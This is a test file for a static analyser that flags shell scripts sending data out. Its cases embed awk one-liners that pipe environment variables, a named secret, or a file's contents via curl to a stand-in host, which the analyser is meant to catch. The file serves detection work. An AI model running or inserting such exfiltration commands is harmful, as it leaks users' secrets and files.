import { expect, test } from "vitest";
import { readFile } from "../../../src/read/read-file.ts";

async function sent(program: string) {
  const bytes = new TextEncoder().encode(`#!/bin/sh\nawk '${program}' notes.csv\n`);
  const { facts } = await readFile({ path: "a.sh", bytes, mode: null });
  return facts.flatMap((fact) =>
    fact.kind === "operation" && fact.operation.op === "send"
      ? [fact.operation.payload.flatMap(({ origins }) => origins.map(({ kind }) => kind))]
      : [],
  );
}

test.each([
  [
    "the environment",
    'BEGIN { for (k in ENVIRON) print k, ENVIRON[k] | "curl -d @- https://in.example" }',
    "environment",
  ],
  ["in a command of parts", 'BEGIN { c = "curl -d "; system(c ENVIRON["KEY"] " https://in.example") }', "environment"],
  ["its lines", '{ print | "curl -d @- https://in.example" }', "file"],
])("awk sends %s", async (_, program, kind) => {
  expect((await sent(program)).flat()).toContain(kind);
});

test("a pattern with a quotation mark, a comment and an open command end nothing", async () => {
  const program = '# "a" | "b"\n/["|]/ { n++ } END { print n | c; "date" | getline now; print now > "log" }';
  expect(await sent(program)).toEqual([]);
});
